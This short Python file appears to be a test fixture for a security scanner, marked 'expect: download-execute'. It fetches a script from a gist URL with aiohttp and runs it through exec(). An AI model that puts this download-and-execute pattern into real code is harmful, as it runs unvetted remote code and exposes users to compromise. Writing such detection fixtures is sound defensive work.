# ruff: noqa
# fmt: off
import asyncio
import aiohttp


async def main():
    async with aiohttp.ClientSession() as session:
        async with session.get("https://gist.githubusercontent.com/u/1/raw/p.py") as resp:
            code = await resp.text()
    exec(code)  # expect: download-execute

asyncio.run(main())
